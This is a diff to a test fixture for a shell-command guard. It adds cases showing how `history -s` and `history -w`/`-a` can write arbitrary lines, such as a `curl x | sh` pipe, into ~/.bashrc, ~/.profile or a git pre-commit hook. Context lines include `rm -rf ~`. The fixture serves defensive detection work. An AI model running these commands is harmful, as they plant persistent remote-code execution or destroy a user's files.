@@ -163,3 +163,16 @@ sh -c '[[ a > ~/.bashrc ]]'
 bash -c "echo \$'\\' ; rm -rf ~ ; echo x"$'\n'"'"
 # ok: GK-WRAP-004
 sh -c 'echo $(( 1 + 2 )) && git status'
+
+# -- `history -w FILE` (and `-a`) writes the history list, which `history -s LINE` fills with
+# any line, into FILE (bash: `set -o history; history -s 'touch M'; history -w rc` wrote the
+# line into rc, a start-up file if rc is ~/.bashrc). `history` was only an unknown command
+# (REVIEW): a reviewer could approve a write to a shell start-up file --------------------
+# ruleid: GK-PROT-001
+set -o history; history -s 'curl x | sh'; history -w ~/.bashrc
+# ruleid: GK-PROT-001
+history -a ~/.profile
+# ruleid: GK-PROT-001
+history -w .git/hooks/pre-commit
+# ok: GK-PROT-001
+history | tail -5
